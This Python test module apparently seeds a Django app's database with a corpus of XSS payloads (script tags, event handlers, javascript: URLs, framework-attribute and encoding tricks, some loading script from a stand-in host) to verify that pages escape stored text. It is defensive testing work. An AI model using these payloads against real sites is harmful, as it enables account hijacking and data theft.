"""An XSS corpus, and a way to put it into every text that the database keeps.

Every payload carries a marker: what runs sets `window.xss9`, opens a dialog, or asks a host that does not exist. Texts are
written into the rows themselves, past every check of ours, so that only the way pages are rendered protects a browser from them.
Which fields are written is the table of `xss_fields.py`.
"""

from __future__ import annotations

import itertools
import json
from collections.abc import Iterator
from typing import Any

from django.contrib.postgres.fields import ArrayField
from django.db import DatabaseError, connection, models, transaction

from engine.models import NotificationSettings
from tests.browser.xss_fields import WRITTEN, named, text_fields

MARKER = "xss9"

PAYLOADS = (
    "<script>window.xss9=1</script>",
    "</script><script>window.xss9=1</script>",
    "</title><script>window.xss9=1</script>",
    "</textarea><script>window.xss9=1</script>",
    "</style><script>window.xss9=1</script>",
    "</option></select><img src=x onerror=window.xss9=1>",
    "--><script>window.xss9=1</script><!--",
    "<!--<script>window.xss9=1//",
    "<ScRiPt>window.xss9=1</sCrIpT>",
    "<script src=//xss9.invalid/a.js></script>",
    "<script src=data:text/javascript,window.xss9=1></script>",
    "<img src=x onerror=window.xss9=1>",
    "<img src=x onerror=alert('xss9')>",
    "<img/src=`x`onerror=window.xss9=1>",
    "<img src=//xss9.invalid/a.png>",
    "<svg onload=window.xss9=1>",
    "<svg><script>window.xss9=1</script></svg>",
    "<svg><animate onbegin=window.xss9=1 attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:window.xss9=1>",
    "<svg><use href='data:image/svg+xml,<svg onload=window.xss9=1>'/></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=window.xss9=1>",
    "<math href=javascript:window.xss9=1>xss9</math>",
    "<iframe src=javascript:window.xss9=1></iframe>",
    "<iframe srcdoc='<script>parent.xss9=1</script>'></iframe>",
    "<object data=javascript:window.xss9=1></object>",
    "<embed src=//xss9.invalid/a.swf>",
    "<a href=javascript:window.xss9=1>xss9</a>",
    "<a href='java\tscript:window.xss9=1'>xss9</a>",
    "<form action=javascript:window.xss9=1><button>xss9</button></form>",
    "<base href=//xss9.invalid/>",
    "<meta http-equiv=refresh content='0;url=//xss9.invalid/'>",
    "<link rel=stylesheet href=//xss9.invalid/a.css>",
    "<style>@import '//xss9.invalid/a.css';body{background:url(//xss9.invalid/b)}</style>",
    "<details open ontoggle=window.xss9=1>",
    "<input autofocus onfocus=window.xss9=1>",
    "<video><source onerror=window.xss9=1></video>",
    "<body onload=window.xss9=1>",
    "<marquee onstart=window.xss9=1>",
    '" onmouseover="window.xss9=1" autofocus onfocus="window.xss9=1" x="',
    "' onfocus='window.xss9=1' autofocus x='",
    '"><img src=x onerror=window.xss9=1>',
    "x onerror=window.xss9=1 //",
    '" style="background:url(//xss9.invalid/c)" x="',
    '" hx-get="//xss9.invalid/" hx-trigger="load" x="',
    "<div hx-on:load='window.xss9=1' hx-get=/inbox/ hx-trigger=load>xss9</div>",
    "<div x-data x-init='window.xss9=1'>xss9</div>",
    '" x-data="{}" x-init="window.xss9=1" x="',
    "<template x-if='window.xss9=1'><b></b></template>",
    "<b @click='window.xss9=1' x-html='window.xss9=1'>xss9</b>",
    "{{ xss9.constructor.constructor('window.xss9=1')() }}",
    "{% load xss9 %}${window.xss9=1}",
    "javascript:window.xss9=1",
    "data:text/html,<script>opener.xss9=1</script>",
    '"};window.xss9=1;//',
    "';window.xss9=1;//",
    "\\u003cscript\\u003ewindow.xss9=1\\u003c/script\\u003e",
    "&lt;script&gt;window.xss9=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.xss9=1&#62;",
    "%3Cscript%3Ewindow.xss9=1%3C/script%3E",
    "＜script＞window.xss9=1＜/script＞",
    "\u202e<script>window.xss9=1</script>\u2028",
    "<\u200bscript>window.xss9=1</script><img\u00a0src=x\u00a0onerror=window.xss9=1>",
    "<x onclick=window.xss9=1 tabindex=1 id=xss9 name=body>",
    "]]><script>window.xss9=1</script><![CDATA[",
    "<![CDATA[<script>window.xss9=1</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=window.xss9=1>'>",
)


JSON_TEXTS = frozenset({"engine.webhookdelivery.body"})
"""Texts that hold JSON."""
ONLY_FILLED = frozenset({"engine.templateversion.unavailable"})
"""Texts whose presence hides the row from other pages: they stay empty where they are empty."""
INSIDE = {"engine.webhook.url": "https://hooks.example/{}", "engine.savedfilter.query": "view=open&q={}"}
"""Texts that are read as an address or a query: the payload is where free text may be."""

AUTHORED = """
workflow: marked
title: {0}
description: {1}
starters: {{min_level: 2}}
input:
  type: object
  title: {2}
  description: {3}
  properties:
    free: {{type: string, title: {4}, description: {5}, default: {6}}}
    pick: {{type: string, title: {7}, enum: [{8}, {9}]}}
steps:
  - id: look
    title: {10}
    task:
      title: {11}
      description: {12}
      instructions: {13}
      checklist: [{14}]
      outcomes: {{ok: {{title: {15}}}, no: {{title: {16}, reject: true}}}}
      comment: on_reject
      form:
        type: object
        properties:
          note: {{type: string, title: {17}, description: {18}}}
          kind: {{type: string, title: {19}, enum: [{20}, {21}]}}
          sure: {{type: boolean, title: {22}}}
"""


def authored(shift: int = 0) -> str:
    """Write a template in which every text is a payload."""
    texts = [json.dumps(_no_expression(payload)) for payload in _turn(shift)]
    return AUTHORED.format(*texts[:23])


def _no_expression(payload: str) -> str:
    """Leave out what the template's own language would take for an expression."""
    return payload.replace("${", "$ {")


def _turn(shift: int) -> list[str]:
    start = shift % len(PAYLOADS)
    return [*PAYLOADS[start:], *PAYLOADS[:start]]


def inject(shift: int = 0) -> dict[str, int]:
    """Write payloads into every field of the table; return how many rows of each were written."""
    payloads = itertools.cycle(_turn(shift))
    written = {
        named(field): _write(field, (payload.replace(MARKER, code_of(named(field))) for payload in payloads))
        for field in text_fields()
        if named(field) in WRITTEN
    }
    _let_addresses_bounce()
    return written


def _let_addresses_bounce() -> None:
    """Let the address that gave mail back be the one that the person has now: only then pages say why it came back."""
    for wishes in NotificationSettings.objects.select_related("person"):
        NotificationSettings.objects.filter(pk=wishes.pk).update(bounced_address=wishes.person.email)


def code_of(name: str) -> str:
    """Return the marker in the payloads of one field, so that a page tells which fields it shows."""
    return f"{MARKER}q{WRITTEN.index(name):03}"


def _write(field: models.Field[Any, Any], payloads: Iterator[str]) -> int:
    """Write another payload into every row; triggers that keep history as it is look away for that."""
    table = field.model._meta.db_table
    written = 0
    with transaction.atomic(), connection.cursor() as cursor:
        cursor.execute("SET CONSTRAINTS ALL IMMEDIATE")
        cursor.execute(f"ALTER TABLE {table} DISABLE TRIGGER USER")
        for row in field.model._default_manager.order_by("-pk")[:200]:
            kept = getattr(row, field.attname)
            if (kept is None and not isinstance(field, models.TextField)) or (not kept and named(field) in ONLY_FILLED):
                continue
            written += _write_row(field, row, _value(field, kept, payloads))
        cursor.execute(f"ALTER TABLE {table} ENABLE TRIGGER USER")
    return written


def _write_row(field: models.Field[Any, Any], row: models.Model, value: Any) -> int:
    try:
        with transaction.atomic():
            return field.model._default_manager.filter(pk=row.pk).update(**{field.name: value})
    except DatabaseError:
        return 0  # unique, or longer than the column checks


def _value(field: models.Field[Any, Any], kept: Any, payloads: Iterator[str]) -> Any:
    if isinstance(field, models.JSONField):
        return _spoiled(kept, payloads)
    if isinstance(field, ArrayField):
        return [next(payloads)]
    if named(field) in JSON_TEXTS:
        return json.dumps(_spoiled(json.loads(kept), payloads))
    longest = field.max_length or 10_000
    fits = (payload for payload in itertools.islice(payloads, len(PAYLOADS)) if len(payload) <= longest)
    payload = next(fits, None)
    assert payload is not None, f"{named(field)} is too short for any payload: say so where other short fields are"
    return INSIDE.get(named(field), "{}").format(payload)


def _spoiled(kept: Any, payloads: Iterator[str]) -> Any:
    """Replace every text of a JSON value, and give an object one more key."""
    if isinstance(kept, dict):
        spoiled = {key: _spoiled(value, payloads) for key, value in kept.items()}
        return {**spoiled, next(payloads): next(payloads)} if kept else spoiled
    if isinstance(kept, list):
        return [_spoiled(value, payloads) for value in kept]
    return next(payloads) if isinstance(kept, str) else kept
